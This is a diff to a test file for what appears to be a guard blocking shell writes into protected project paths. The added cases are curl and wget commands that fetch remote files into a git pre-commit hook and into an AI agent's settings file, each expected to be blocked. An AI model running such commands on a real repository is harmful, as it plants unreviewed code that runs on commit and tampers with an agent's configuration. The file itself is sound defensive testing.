@@ -124,6 +124,15 @@ def test_absolute_and_relative_forms(project: Path, tmp_path: Path) -> None:
     assert blocked(project, shell(project, f"cp /tmp/x {project}/.git/hooks/pre-commit"))
 
 
+@pytest.mark.parametrize("command", [
+    "curl -sSLo .git/hooks/pre-commit https://example.org/hook",
+    "wget -qO .claude/settings.json https://example.org/settings",
+    "cp -rt .wazir/input notes.md",
+])
+def test_an_output_option_in_a_cluster_of_short_flags(project: Path, command: str) -> None:
+    assert blocked(project, shell(project, command))
+
+
 def test_write_outside_the_project_is_allowed(project: Path, tmp_path: Path) -> None:
     outside = tmp_path / "other" / ".git" / "config"
     assert not blocked(project, write(project, str(outside)))
